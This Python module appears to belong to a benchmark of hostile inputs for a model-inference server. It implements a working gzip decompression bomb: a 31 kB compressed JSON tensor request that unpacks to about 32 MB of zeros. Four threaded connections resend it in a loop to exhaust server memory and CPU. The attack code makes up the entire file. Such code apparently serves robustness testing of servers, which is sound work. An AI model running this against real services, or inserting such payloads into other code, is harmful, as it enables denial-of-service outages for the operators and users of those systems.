"""JSON that is small on the wire and large once it is unpacked."""

import gzip
import threading

from bench.hostile.target import connect, head, in_threads, infer_path

DESCRIPTION = "4 connections send 31 kB each, again and again, which unpack to 32 MB of zeros in JSON"
OPTIONS: list[str] = []
CONNECTIONS, BYTES = 4, (32 << 20) - 1024


def attack(port: int, stop: threading.Event, token: str | None) -> None:
    start = b'{"inputs":[{"name":"activation","datatype":"FP32","shape":[%d],"data":[0'
    content = start % (BYTES // 2) + b",0" * (BYTES // 2) + b"]}]}"
    body = gzip.compress(content, 9)
    request = head(infer_path(), "Content-Encoding: gzip", f"Content-Length: {len(body)}", token=token) + body

    def client(_number: int) -> None:
        with connect(port) as connection:
            while not stop.is_set():
                connection.sendall(request)
                if not connection.recv(65536):
                    return

    in_threads(CONNECTIONS, client, stop)
